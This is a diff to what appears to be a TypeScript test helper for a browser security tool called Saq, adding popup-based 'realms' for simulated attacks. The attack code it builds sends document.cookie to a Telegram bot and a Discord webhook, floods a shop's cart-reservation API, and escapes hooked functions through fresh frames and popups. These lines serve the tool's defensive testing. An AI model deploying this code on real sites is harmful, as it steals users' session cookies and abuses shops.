@@ -8,6 +8,7 @@
  * have no uncaught errors of its own, so that any that appear are Saq's.
  */
 import { HARD_CODED_PEER } from './main-world.ts';
+import { SHOP_ORIGIN } from '../../shop/config.ts';
 export const HELPER_CDN = 'helper-cdn.test';
 /** Exfiltration endpoints; `tag` makes each attack's requests (and the verdicts about them) tell apart. */
 export const telegramUrl = (tag: string): string => `https://api.telegram.org/bot1:${tag}/sendMessage`;
@@ -25,7 +26,10 @@ export type Realm =
   | 'shadow-html'
   | 'outer-html'
   | 'document-write'
-  | 'srcdoc-by-index';
+  | 'srcdoc-by-index'
+  // A same-origin popup (about:blank) opened by the page:
+  | 'window-open'
+  | 'document-open';
 
 /** The frame the page added last, by index: not through `contentWindow`, which Saq hooks. */
 const LAST_FRAME = 'window[window.length - 1]';
@@ -58,8 +62,19 @@ function realmExpression(realm: Realm): string {
       return `(() => { document.write('<iframe style="display:none"></iframe>'); return ${LAST_FRAME}; })()`;
     case 'srcdoc-by-index':
       return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.srcdoc = '<p>clean</p>'; f.onload = () => resolve(${LAST_FRAME}); document.body.appendChild(f); })`;
+    case 'window-open':
+      return `window.open('about:blank', '_blank', 'popup,width=200,height=200')`;
+    case 'document-open':
+      return `document.open('about:blank', '_blank', 'popup,width=200,height=200')`;
   }
 }
+
+/**
+ * The cart address as the helper writes it. A popup's fetch resolves a relative URL against its own
+ * document, and Firefox gives an about:blank popup no base of its opener's: the helper writes it in full.
+ */
+const cartUrlFrom = (realm: Realm): string =>
+  realm === 'window-open' || realm === 'document-open' ? `${SHOP_ORIGIN}/api/cart/reserve` : '/api/cart/reserve';
 
 /**
  * The helper's work, with functions taken from `realm`: cookies to a Telegram bot by fetch and to a Discord
@@ -76,7 +91,7 @@ export function helperAttack(realm: Realm, tag: string): string {
   step('xhr exfiltration', () => { const x = new w.XMLHttpRequest(); x.open('POST', ${JSON.stringify(discordUrl(tag))}); x.send(JSON.stringify({ content: document.cookie })); });
   const productId = document.querySelector('[data-role="buy-block"]')?.dataset.productId ?? 'p-102';
   for (let i = 0; i < 8; i++) {
-    step('cart burst', () => fetchFn.call(window, '/api/cart/reserve', { method: 'POST', credentials: 'same-origin', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId, qty: 2 }) }));
+    step('cart burst', () => fetchFn.call(window, ${JSON.stringify(cartUrlFrom(realm))}, { method: 'POST', credentials: 'same-origin', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId, qty: 2 }) }));
   }
   if (button) {
     for (let i = 0; i < 3; i++) step('click()', () => w.HTMLElement.prototype.click.call(button));
